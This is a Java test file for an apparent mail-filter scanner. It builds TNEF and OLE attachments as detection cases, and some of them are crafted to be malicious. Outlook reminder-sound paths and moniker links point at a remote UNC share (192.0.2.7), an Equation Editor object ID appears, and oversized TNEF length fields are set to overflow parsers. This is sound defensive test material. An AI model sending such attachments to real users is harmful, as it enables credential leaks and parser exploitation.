// Copyright the Postern authors
// SPDX-License-Identifier: Apache-2.0
package org.postern.filter.shield.internal.rows;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.postern.filter.shield.internal.build.Compound;
import org.postern.filter.shield.internal.build.LittleEndian;
import org.postern.filter.shield.internal.build.Tnef;
import org.postern.testkit.TestTransaction;

/** Cases whose content is no text: TNEF and OLE. */
final class BinaryCases {

  private static final String EQUATION = "02ce020000000000c000000000000046";
  private static final String WORD = "0609020000000000c000000000000046";
  private static final int REMINDER_FILE = 0x851f;

  private final List<RowCase> cases = new ArrayList<>();

  static List<RowCase> all() {
    BinaryCases all = new BinaryCases();
    all.tnef();
    all.outlook();
    all.bodies();
    all.ole();
    return all.cases;
  }

  private void tnef() {
    byte[] value = Tnef.properties(0x8501, "C:\\ding.wav");
    byte[] sound = new Tnef().attribute(Tnef.MESSAGE_PROPERTIES, value).toBytes();
    byte[] overrun = new Tnef().attribute(0x18010L, 0x7fffffffL, new byte[8]).toBytes();
    byte[] many = new LittleEndian().u32(0x40000001L).octets(new byte[64]).toBytes();
    byte[] overflow = new Tnef().attribute(Tnef.MESSAGE_PROPERTIES, many).toBytes();
    byte[] rows = new Tnef().attribute(Tnef.RECIPIENTS, many).toBytes();
    for (String row : List.of("A6", "A11")) {
      tnef(row, "tnef-overrun", true, overrun);
      tnef(row, "tnef-overrun", false, sound);
      tnef(row, "tnef-overflow", true, overflow);
      tnef(row, "tnef-overflow", true, rows);
      tnef(row, "tnef-overflow", false, sound);
    }
    tnef("A6", "tnef-malformed", true, new Tnef().raw(new byte[] {9, 9, 9}).toBytes());
    tnef("A6", "tnef-malformed", false, new Tnef().raw(new byte[30]).toBytes());
  }

  private void outlook() {
    byte[] remote = Tnef.properties(REMINDER_FILE, "\\\\192.0.2.7\\share\\a.wav");
    byte[] inner = new Tnef().attribute(Tnef.MESSAGE_PROPERTIES, remote).toBytes();
    byte[] outer = new Tnef().attribute(Tnef.ATTACHMENT_PROPERTIES, Tnef.object(inner)).toBytes();
    byte[] local = Tnef.properties(REMINDER_FILE, "C:\\Windows\\Media\\ding.wav");
    tnef("E2", "reminder-sound", true, inner);
    tnef("E2", "reminder-sound", true, outer);
    tnef("E2", "reminder-sound", false, new Tnef().attribute(0x69003, local).toBytes());
    ole("E2", "reminder-sound", true, Compound.outlookMessage("\\\\192.0.2.7\\share\\a.wav"));
    ole("E2", "reminder-sound", true, Compound.outlookMessage("//192.0.2.7/share/a.wav"));
    ole("E2", "reminder-sound", false, Compound.outlookMessage("reminder.wav"));
  }

  private void bodies() {
    String link = "<a href=\"file:///\\\\192.0.2.7\\share\\x.rtf!y\">report</a>";
    String web = "<a href=\"https://example.org/x.rtf!y\">report</a>";
    tnef("E1", "moniker-link", true, body(0x1013, link));
    tnef("E1", "moniker-link", false, body(0x1013, web));
    ole("E1", "moniker-link", true, Compound.outlookMessageWithHtml(link));
    ole("E1", "moniker-link", false, Compound.outlookMessageWithHtml(web));
    String field = "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"file://192.0.2.7/s/x!y\"}}}";
    String plain = "\0".repeat(8) + "MELA" + "\0".repeat(4);
    tnef("E1", "moniker-link", true, body(0x1009, plain + field));
  }

  private static byte[] body(int property, String text) {
    byte[] value = Tnef.binary(property, text.getBytes(StandardCharsets.ISO_8859_1));
    return new Tnef().attribute(Tnef.MESSAGE_PROPERTIES, value).toBytes();
  }

  private void ole() {
    byte[] equation = new Compound().storage("_1234", EQUATION).toBytes();
    byte[] word = new Compound().storage("_1234", WORD).stream("1Table", new byte[5000]).toBytes();
    ole("E4", "equation-object", true, equation);
    ole("E4", "equation-object", false, word);
    byte[] damaged = word.clone();
    damaged[30] = 77;
    ole("E4", "ole-damaged", true, damaged);
    ole("E4", "ole-damaged", false, word);
  }

  private void tnef(String row, String rule, boolean hit, byte[] content) {
    add(row, rule, hit, "application/ms-tnef; name=winmail.dat", content);
  }

  private void ole(String row, String rule, boolean hit, byte[] content) {
    add(row, rule, hit, "application/octet-stream; name=a.bin", content);
  }

  private void add(String row, String rule, boolean hit, String type, byte[] content) {
    String text =
        "Content-Type: "
            + type
            + "\nContent-Transfer-Encoding: base64\n\n"
            + Base64.getMimeEncoder(76, new byte[] {'\n'}).encodeToString(content)
            + "\n";
    String origin = "binary case " + (cases.size() + 1);
    cases.add(new RowCase(origin, row, rule, hit, stage -> TestTransaction.at(stage).eml(text)));
  }
}
